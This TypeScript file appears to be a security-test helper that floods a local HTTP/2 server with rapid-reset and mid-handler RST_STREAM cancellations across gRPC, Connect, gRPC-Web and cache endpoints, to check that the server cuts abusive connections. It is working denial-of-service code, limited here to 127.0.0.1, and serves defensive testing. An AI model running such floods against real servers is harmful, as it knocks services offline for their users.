/**
 * An HTTP/2 attacker run as its own process by `transport_attacks_test.ts` and `deno_serve_reset_test.ts`
 * (so the victim's latency is the server's, not the test process's). Two modes, each opening CONNECTIONS
 * connections and sending STREAMS requests on each; prints `started` once under way, then `sent N cut C`
 * when done (C: connections the server closed):
 * - `rapid-reset PORT CONNECTIONS STREAMS [reconnect]`: each request is HEADERS immediately followed by
 *   RST_STREAM(CANCEL); with `reconnect`, a connection the server cut is dialled again until STREAMS were
 *   sent on that slot (Deno.serve cuts a connection after about 100 resets);
 * - `reset-mid-handler PORT CONNECTIONS STREAMS`: requests whose handler is still running when they are
 *   reset (RST_STREAM(CANCEL) 0–4 ms after a partial body, in batches of 16): Connect unary and server
 *   streaming, gRPC-Web, gRPC, HTTP cache PUT (partial body), GET and HEAD, `/metrics`, `/status`.
 *
 * @example
 * ```sh
 * deno run --allow-net=127.0.0.1 tests/security/h2_attacker.ts rapid-reset 50051 4 2500
 * deno run --allow-net=127.0.0.1 tests/security/h2_attacker.ts reset-mid-handler 50051 4 400
 * ```
 * @module
 */
import http2 from "node:http2";

const [mode, portText, connText, streamsText, option] = Deno.args;
const reconnect = option === "reconnect";
if (mode !== "rapid-reset" && mode !== "reset-mid-handler") throw new Error(`unknown mode ${mode}`);
const port = Number(portText);
let sent = 0;
let cut = 0;
let announced = false;

/** A new connection to the server, once connected (or already closed); `closed()` turns true on GOAWAY or close. */
async function dial(): Promise<{ s: http2.ClientHttp2Session; closed: () => boolean }> {
  const s = http2.connect(`http://127.0.0.1:${port}`);
  s.on("error", () => {});
  let closed = false;
  s.once("close", () => closed = true);
  s.once("goaway", () => closed = true);
  await new Promise<void>((resolve) => {
    s.once("connect", () => resolve());
    s.once("close", () => resolve());
  });
  return { s, closed: () => closed };
}

/** One connection slot of `rapid-reset`; with `reconnect`, dials again when the server cuts it. */
async function attack(): Promise<void> {
  const total = Number(streamsText);
  let mine = 0;
  for (let round = 0; mine < total && round < (reconnect ? 100 : 1); round++) {
    const { s, closed } = await dial();
    for (let i = 0; mine < total; i++) {
      if (closed() || s.destroyed || s.closed) break;
      try {
        const st = s.request({
          ":method": "POST",
          ":path": "/build.bazel.remote.execution.v2.Capabilities/GetCapabilities",
          "content-type": "application/grpc",
        });
        st.on("error", () => {});
        st.close(http2.constants.NGHTTP2_CANCEL);
        sent++;
        mine++;
      } catch {
        break; // the server sent GOAWAY
      }
      if (!announced && sent >= 200) {
        announced = true;
        console.log("started");
      }
      if (i % 50 === 49) await new Promise((r) => setTimeout(r, 0));
    }
    // A server defending itself closes the connection (GOAWAY, then close) soon after the flood.
    const until = Date.now() + 5000;
    while (!closed() && Date.now() < until) await new Promise((r) => setTimeout(r, 20));
    if (closed()) cut++;
    s.destroy();
    if (!closed()) break;
  }
}

/** The requests of `reset-mid-handler`: headers and the part of a body sent before the reset. */
const CAPS = "/build.bazel.remote.execution.v2.Capabilities/GetCapabilities";
const FIND = "/build.bazel.remote.execution.v2.ContentAddressableStorage/FindMissingBlobs";
const READ = "/google.bytestream.ByteStream/Read";
const HASH = "e".repeat(64);
const MID_HANDLER: { headers: http2.OutgoingHttpHeaders; body?: Uint8Array }[] = [
  // Connect unary (proto and JSON), body cut short of its content-length: the handler waits for the rest.
  {
    headers: {
      ":method": "POST",
      ":path": FIND,
      "content-type": "application/proto",
      "content-length": "64",
    },
    body: new Uint8Array(8),
  },
  {
    headers: { ":method": "POST", ":path": CAPS, "content-type": "application/json", "content-length": "40" },
    body: new TextEncoder().encode('{"instanceName":'),
  },
  // Connect server streaming: an enveloped request cut short.
  {
    headers: { ":method": "POST", ":path": READ, "content-type": "application/connect+proto" },
    body: new Uint8Array([0, 0, 0, 0, 40, 10]),
  },
  // gRPC-Web unary, cut short.
  {
    headers: { ":method": "POST", ":path": CAPS, "content-type": "application/grpc-web+proto" },
    body: new Uint8Array([0, 0, 0, 0, 20, 10]),
  },
  // gRPC unary, cut short.
  {
    headers: { ":method": "POST", ":path": CAPS, "content-type": "application/grpc" },
    body: new Uint8Array([0, 0, 0, 0, 20, 10]),
  },
  // HTTP cache PUT, cut short of its content-length.
  {
    headers: { ":method": "PUT", ":path": `/cas/${HASH}`, "content-length": "100000" },
    body: new Uint8Array(1000),
  },
  {
    headers: { ":method": "PUT", ":path": `/ac/${HASH}`, "content-length": "5000" },
    body: new Uint8Array(10),
  },
  // Bodiless: answered while (or after) the client resets.
  { headers: { ":method": "GET", ":path": `/cas/${HASH}` } },
  { headers: { ":method": "HEAD", ":path": `/ac/${HASH}` } },
  { headers: { ":method": "GET", ":path": "/metrics" } },
  { headers: { ":method": "GET", ":path": "/status" } },
  { headers: { ":method": "OPTIONS", ":path": CAPS, origin: "http://evil.example" } },
];

/** One connection slot of `reset-mid-handler`: reconnects when the server cuts it, until STREAMS were sent. */
async function attackMidHandler(): Promise<void> {
  const total = Number(streamsText);
  let mine = 0;
  let reconnects = 0;
  while (mine < total && reconnects < 1000) {
    const { s, closed } = await dial();
    for (let i = 0; mine < total && !closed() && !s.destroyed; i++) {
      const batch: http2.ClientHttp2Stream[] = [];
      try {
        for (let j = 0; j < 16 && mine + j < total; j++) {
          const kind = MID_HANDLER[(mine + j) % MID_HANDLER.length]!;
          const st = s.request(kind.headers, { endStream: kind.body === undefined });
          st.on("error", () => {});
          st.on("data", () => {});
          if (kind.body !== undefined) st.write(kind.body);
          batch.push(st);
        }
      } catch {
        break; // the server sent GOAWAY
      }
      // Let the handlers start (and some answer), then reset every stream of the batch at staggered times.
      await new Promise((r) => setTimeout(r, i % 5));
      for (const st of batch) if (!st.closed && !st.destroyed) st.close(http2.constants.NGHTTP2_CANCEL);
      mine += batch.length;
      sent += batch.length;
      if (!announced && sent >= 64) {
        announced = true;
        console.log("started");
      }
    }
    // Deno's HTTP/2 server closes a connection that resets many streams: count it and dial again.
    if (closed()) cut++;
    reconnects++;
    s.destroy();
  }
}

await Promise.all(
  Array.from({ length: Number(connText) }, mode === "rapid-reset" ? attack : attackMidHandler),
);
if (!announced) console.log("started");
console.log(`sent ${sent} cut ${cut}`);
